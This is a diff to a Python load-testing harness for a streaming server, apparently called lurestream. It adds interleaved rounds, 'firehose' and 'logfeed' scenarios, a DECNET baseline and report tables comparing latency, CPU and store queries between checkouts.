     nats_svc, mongo_svc = nats_server(work).start(), mongo_wire_server(work).start()
     results: dict[str, list[tuple[str, dict]]] = {s: [] for s in scenarios}
+    if args.rounds > 1 or args.interleave:  # old, new, old, new: each scenario's servers side by side in time
+        runs = [(r, sc, name) for r in range(args.rounds) for sc in scenarios for name in servers]
+    else:
+        runs = [(0, sc, name) for name in servers for sc in scenarios]
     try:
         tokens = seed(mongo_svc.url, 200)
         loadgen = build_loadgen(work)
-        for name in servers:
+        for rnd, scenario, name in runs:
             if name == "nchan" and not nchan_available():
                 print("nchan: not installed (apt-get install nginx-light libnginx-mod-nchan); skipped", file=sys.stderr)
                 continue
-            for scenario in scenarios:
-                commit = git_commit() if name == "lurestream" else None
-                server = (
-                    start_lurestream(nats_svc.url, mongo_uri(mongo_svc.url, args.mongo_options), args.processes, work)
-                    if name == "lurestream"
-                    else start_seed(nats_svc.url, mongo_svc.url, work)
-                    if name == "seed"
-                    else start_nchan(work)
+            if not runs_scenario(name, scenario):
+                print(f"{name}: no {scenario} scenario; skipped", file=sys.stderr)
+                continue
+            sizes: list[int | None] = [None]
+            if scenario == "logfeed":
+                sizes = [int(n) for n in args.logfeed_streams.split(",")] if name != "decnet" else []
+                sizes += [int(n) for n in args.logfeed_baseline_streams.split(",")] if name == "decnet" else []
+            for size in sizes:
+                row, server_name = run_one(
+                    name, scenario, size, rnd, args, nats_svc, mongo_svc, loadgen, tokens, work, prof
                 )
-                print(f"{server.name}: {scenario} ..." + (f" (commit {commit})" if commit else ""), file=sys.stderr)
-                factor = args.seed_rate_factor if name == "seed" else 1.0
-                services = {"nx-27017": mongo_svc, "nats-server": nats_svc}
-                services_cpu = {k: tree_cpu(svc) for k, svc in services.items()}
-                try:
-                    common = (server, loadgen, tokens, args, work, prof)
-                    if scenario == "idle":
-                        row = scenario_idle(*common)
-                    elif scenario == "storm":
-                        row = scenario_storm(*common)
-                    elif scenario == "sparse":
-                        attackers = [f"a-{i}" for i in range(500)]
-                        rate = args.sparse_rate * factor
-                        row = scenario_fanout(*common, scenario, nats_svc.url, args.sparse_streams, attackers, rate)
-                    else:
-                        rate = args.broadcast_rate * factor
-                        row = scenario_fanout(*common, scenario, nats_svc.url, args.broadcast_streams, ["a-0"], rate)
-                    time.sleep(1)  # the load generators' closes reach the server's counters
-                    if commit:
-                        row["commit"] = commit
-                    row["server"] = counters_row(scrape(server))
-                    row["cpu_s"] = {"server": server.cpu_seconds()}  # over its life: this scenario
-                    row["cpu_s"].update({k: tree_cpu(svc) - services_cpu[k] for k, svc in services.items()})
-                finally:
-                    prof.stop()
-                    server.stop()
-                print(f"  {json.dumps(row)}", file=sys.stderr, flush=True)
-                results[scenario].append((server.name, row))
+                results[scenario].append((server_name, row))
                 time.sleep(1)
     finally:
         nats_svc.stop()
         mongo_svc.stop()
     report(results, args)
+
+
+def runs_scenario(name: str, scenario: str) -> bool:
+    """Which server runs which scenario: the DECNET design only the log feed; the seed design and nchan
+    neither the log feed nor the firehose (they serve neither); a lurestream checkout (``lurestream@PATH``)
+    the log feed and the firehose only when it has them."""
+    if name == "decnet":
+        return scenario == "logfeed"
+    if scenario in ("logfeed", "firehose"):
+        if name in ("seed", "nchan"):
+            return False
+        if name.startswith("lurestream@"):
+            path = name.partition("@")[2]
+            return os.path.exists(os.path.join(path, "lurestream", "logfeed.py"))
+    return True
+
+
+def run_one(
+    name: str,
+    scenario: str,
+    size: int | None,
+    rnd: int,
+    args: argparse.Namespace,
+    nats_svc: Any,
+    mongo_svc: Any,
+    loadgen: str,
+    tokens: list[str],
+    work: str,
+    prof: Profiler,
+) -> tuple[dict, str]:
+    """One scenario against a fresh server; returns its row and the name it is reported under."""
+    path = name.partition("@")[2] if name.startswith("lurestream@") else None
+    lurestream = name == "lurestream" or path is not None
+    commit = git_commit(path) if lurestream else None
+    mongo_url = mongo_uri(mongo_svc.url, args.mongo_options) if lurestream else mongo_svc.url
+    if lurestream:
+        server = start_lurestream(nats_svc.url, mongo_url, args.processes, work, path)
+    elif name == "seed":
+        server = start_seed(nats_svc.url, mongo_svc.url, work)
+    elif name == "decnet":
+        server = start_decnet_logs(mongo_svc.url, work)
+    else:
+        server = start_nchan(work)
+    label = server.name + (f", {size} viewers" if size else "") + (f" #{rnd + 1}" if args.rounds > 1 else "")
+    print(f"{label}: {scenario} ..." + (f" (commit {commit})" if commit else ""), file=sys.stderr, flush=True)
+    factor = args.seed_rate_factor if name == "seed" else 1.0
+    services = {"nx-27017": mongo_svc, "nats-server": nats_svc}
+    services_cpu = {k: tree_cpu(svc) for k, svc in services.items()}
+    try:
+        common = (server, loadgen, tokens, args, work, prof)
+        if scenario == "idle":
+            row = scenario_idle(*common)
+        elif scenario == "storm":
+            row = scenario_storm(*common)
+        elif scenario == "sparse":
+            attackers = [f"a-{i}" for i in range(500)]
+            rate = args.sparse_rate * factor
+            row = scenario_fanout(*common, scenario, nats_svc.url, args.sparse_streams, attackers, rate)
+        elif scenario == "broadcast":
+            rate = args.broadcast_rate * factor
+            row = scenario_fanout(*common, scenario, nats_svc.url, args.broadcast_streams, ["a-0"], rate)
+        elif scenario == "firehose":
+            identities = [f"i-{i}" for i in range(100)]
+            row = scenario_fanout(
+                *common,
+                scenario,
+                nats_svc.url,
+                args.firehose_streams,
+                identities,
+                args.firehose_rate,
+                args.firehose_path,
+            )
+        elif scenario == "logfeed":
+            assert size is not None
+            row = scenario_logfeed(*common, mongo_url, size)
+        else:
+            raise SystemExit(f"unknown scenario {scenario}")
+        time.sleep(1)  # the load generators' closes reach the server's counters
+        if commit:
+            row["commit"] = commit
+        row["round"] = rnd + 1
+        if lurestream:
+            row["checkout"] = path or "this"
+        row["server"] = counters_row(scrape(server))
+        row["cpu_s"] = {"server": server.cpu_seconds()}  # over its life: this scenario
+        row["cpu_s"].update({k: tree_cpu(svc) - services_cpu[k] for k, svc in services.items()})
+    finally:
+        prof.stop()
+        server.stop()
+    print(f"  {json.dumps(row)}", file=sys.stderr, flush=True)
+    return row, label
 
 
 def tree_cpu(service: Any) -> float:
@@ -1122,9 +1697,10 @@ def tree_cpu(service: Any) -> float:
     return cpu_of(proc.pid) + sum(cpu_of(int(p)) for p in out.stdout.split())
 
 
-def git_commit() -> str:
-    """The commit the server runs (``+`` when lurestream/ has changes not committed); read-only git calls."""
-    root = os.path.dirname(HERE)
+def git_commit(root: str | None = None) -> str:
+    """The commit the server runs (``+`` when lurestream/ has changes not committed) — this checkout's, or
+    ``root``'s; read-only git calls."""
+    root = root or os.path.dirname(HERE)
     try:
         head = subprocess.run(
             ["git", "rev-parse", "--short", "HEAD"], cwd=root, capture_output=True, text=True, timeout=10
@@ -1223,6 +1799,23 @@ def report(results: dict[str, list[tuple[str, dict]]], args: argparse.Namespace)
                 "cpu_us_per_delivery",
             )
         )
+    if "firehose" in results:
+        parts.append(
+            table(
+                f"Firehose: {args.firehose_streams} streams of {args.firehose_path}, "
+                f"{args.firehose_rate:.0f} events/s (identity.formed) for {args.duration:.0f} s",
+                results["firehose"],
+                [*fanout, ("loadgen_cpu_s", "load generator CPU s", ".1f")],
+                None,
+            )
+        )
+        if "broadcast" in results:
+            parts.append(firehose_vs_broadcast(results))
+    if "logfeed" in results:
+        parts.append(logfeed_tables(results["logfeed"], args))
+    variants = variant_ratios(results)
+    if variants:
+        parts.append(variants)
     notes = counters_notes(results)
     if notes:
         parts.append("### What went wrong, per scenario (server counters from /metrics; load generators)\n")
@@ -1234,7 +1827,7 @@ def report(results: dict[str, list[tuple[str, dict]]], args: argparse.Namespace)
         'ended" = deliveries that arrived in that time (in flight at the end). '
     )
     parts.append(
-        (fanout_note if {"sparse", "broadcast"} & set(results) else "")
+        (fanout_note if {"sparse", "broadcast", "firehose"} & set(results) else "")
         + f"Streams set up at {args.ramp:.0f}/s (storm: at once); load generators bind to 127.0.0.2, "
         f"127.0.0.3, … (≤ {PER_LOADGEN} streams each)."
         + (
@@ -1250,6 +1843,137 @@ def report(results: dict[str, list[tuple[str, dict]]], args: argparse.Namespace)
     if args.output:
         with open(args.output, "w") as fh:
             fh.write(text)
+
+
+def firehose_vs_broadcast(results: dict[str, list[tuple[str, dict]]]) -> str:
+    """The firehose beside the broadcast of the same run (same server, same invocation)."""
+    out = [
+        "Firehose against the broadcast scenario of the same run (lurestream):",
+        "",
+        "| run | streams | deliveries/s | p50 ms | p99 ms | server CPU µs/delivery | × broadcast's µs/delivery "
+        "| p99 × broadcast's |",
+        "|---|---|---|---|---|---|---|---|",
+    ]
+    broadcast = {n: r for n, r in results["broadcast"]}
+    for name, row in results["firehose"]:
+        base = broadcast.get(name)
+        for label, r in ((f"broadcast, {name}", base), (f"firehose, {name}", row)):
+            if r is None:
+                continue
+            ratio_cpu = r["cpu_us_per_delivery"] / base["cpu_us_per_delivery"] if base else None
+            ratio_p99 = r["p99_ms"] / base["p99_ms"] if base and base["p99_ms"] else None
+            out.append(
+                f"| {label} | {r['streams']} | {r['deliveries_per_s']:.0f} | {r['p50_ms']:.1f} | {r['p99_ms']:.1f} | "
+                f"{r['cpu_us_per_delivery']:.2f} | {fmt(ratio_cpu, '.2f')}× | {fmt(ratio_p99, '.2f')}× |"
+            )
+    return "\n".join(out) + "\n"
+
+
+def logfeed_tables(rows: list[tuple[str, dict]], args: argparse.Namespace) -> str:
+    """The live log feed: delivery, completeness and store queries per server and size, then the ratios."""
+    out = [
+        f"### Live log feed: GET /api/v1/stream over 100 filters, {args.logfeed_rate:.0f} rows/s inserted for "
+        f"{args.duration:.0f} s",
+        "",
+        "| server | viewers | streams up | failed | rows inserted (rows/s) | row deliveries expected | delivered | "
+        "streams with exactly their rows | p50 ms | p99 ms | max ms | store queries/s (by kind) | "
+        "server CPU µs/row delivery | load generator CPU s |",
+        "|---|---|---|---|---|---|---|---|---|---|---|---|---|---|",
+    ]
+    for name, r in rows:
+        kinds = ", ".join(f"{k} {v:.2f}" for k, v in sorted(r["queries_per_s"].items()) if v)
+        out.append(
+            f"| {name.split(',')[0]} | {r['viewers']} | {r['streams']} | {r['failed']} | {r['rows_inserted']} "
+            f"({r['insert_rate']:.0f}) | {r['expected']} | {r['delivered_share']:.2%} | "
+            f"{r['streams_complete']}/{r['streams_checked']} | {r['p50_ms']:.0f} | {r['p99_ms']:.0f} | "
+            f"{r['max_ms']:.0f} | {r['queries_per_s_total']:.2f} ({kinds or 'none'}) | "
+            f"{r['cpu_us_per_delivery']:.2f} | {r['loadgen_cpu_s']:.1f} |"
+        )
+    out.append("")
+    lure = [(n, r) for n, r in rows if not n.startswith("DECNET")]
+    base = [(n, r) for n, r in rows if n.startswith("DECNET")]
+    if lure and base:
+        out += [
+            "| DECNET design against lurestream | viewers | store queries/s | × | p99 ms | × | delivered "
+            "| streams complete |",
+            "|---|---|---|---|---|---|---|---|",
+        ]
+        for bname, b in base:
+            out.append(
+                f"| {bname.split(',')[0]} | {b['viewers']} | {b['queries_per_s_total']:.1f} | — | "
+                f"{b['p99_ms']:.0f} | — | "
+                f"{b['delivered_share']:.2%} | {b['streams_complete']}/{b['streams_checked']} |"
+            )
+            for lname, r in lure:
+                q = b["queries_per_s_total"] / r["queries_per_s_total"] if r["queries_per_s_total"] else None
+                p = b["p99_ms"] / r["p99_ms"] if r["p99_ms"] else None
+                out.append(
+                    f"| {lname.split(',')[0]} | {r['viewers']} | {r['queries_per_s_total']:.2f} | "
+                    f"DECNET {fmt(q, '.0f')}× | "
+                    f"{r['p99_ms']:.0f} | DECNET {fmt(p, '.1f')}× | {r['delivered_share']:.2%} | "
+                    f"{r['streams_complete']}/{r['streams_checked']} |"
+                )
+        out.append("")
+    for name, r in rows:
+        bits = [
+            f"queries run over the server's life {compact({k: int(v) for k, v in sorted(r['queries_run'].items())})}",
+            f"slowest insert {r['slowest_insert_ms']:.0f} ms",
+            f"streams short of rows {r['streams_missing_rows']} ({r['rows_missing']} rows), other mismatches "
+            f"{r['streams_other']}, rows out of order {r['out_of_order']}, closed by the server {r['closed_early']}",
+            f"{r['in_flight_at_end']} rows arrived after inserting ended "
+            f"(the last {r['last_after_end_ms']:.0f} ms after)",
+        ]
+        if r["worst_filters"]:
+            bits.append(
+                "filters short of rows (expected per stream, fewest received): "
+                + "; ".join(f"`{f}` {w[0]}/{w[1]}" for f, w in r["worst_filters"])
+            )
+        out.append(f"- {name}: " + "; ".join(bits))
+    return "\n".join(out) + "\n"
+
+
+VARIANT_FIGURES = {
+    "idle": [("kb_per_stream", "KB per stream")],
+    "storm": [
+        ("per_second", "streams/s"),
+        ("p99_ms", "p99 connect→headers ms"),
+        ("cpu_ms_per_connect", "CPU ms/connect"),
+    ],
+    "sparse": [("p50_ms", "p50 ms"), ("p99_ms", "p99 ms"), ("cpu_us_per_delivery", "server CPU µs/delivery")],
+    "broadcast": [("p50_ms", "p50 ms"), ("p99_ms", "p99 ms"), ("cpu_us_per_delivery", "server CPU µs/delivery")],
+    "firehose": [("p50_ms", "p50 ms"), ("p99_ms", "p99 ms"), ("cpu_us_per_delivery", "server CPU µs/delivery")],
+}
+
+
+def variant_ratios(results: dict[str, list[tuple[str, dict]]]) -> str:
+    """With ``--servers lurestream,lurestream@PATH``: this checkout's figure ÷ the other checkout's, per round
+    (the runs next to each other in time) and their median."""
+    import statistics
+
+    out: list[str] = []
+    for scenario, rows in results.items():
+        figures = VARIANT_FIGURES.get(scenario)
+        new = [r for _, r in rows if r.get("checkout") == "this"]
+        old = [(n, r) for n, r in rows if r.get("checkout") not in (None, "this")]
+        if not figures or not new or not old:
+            continue
+        old_name = f"lurestream {old[0][1].get('commit', '?')} ({old[0][1]['checkout']})"
+        pairs = [(nr, orow) for nr in new for _, orow in old if orow["round"] == nr["round"]]
+        if not out:
+            out += ["### This checkout ÷ the other checkout, per round (old and new run back to back)", ""]
+        out += [
+            f"{scenario}: lurestream ({new[0].get('commit', '?')}) ÷ {old_name}",
+            "",
+            "| figure | " + " | ".join(f"round {nr['round']}" for nr, _ in pairs) + " | median |",
+            "|---" * (len(pairs) + 2) + "|",
+        ]
+        for key, title in figures:
+            ratios = [nr[key] / orow[key] for nr, orow in pairs if orow.get(key)]
+            cells = [f"{x:.2f}" for x in ratios]
+            if ratios:
+                out.append(f"| {title} | " + " | ".join(cells) + f" | {statistics.median(ratios):.2f} |")
+        out.append("")
+    return "\n".join(out)
 
 
 def counters_notes(results: dict[str, list[tuple[str, dict]]]) -> list[str]:
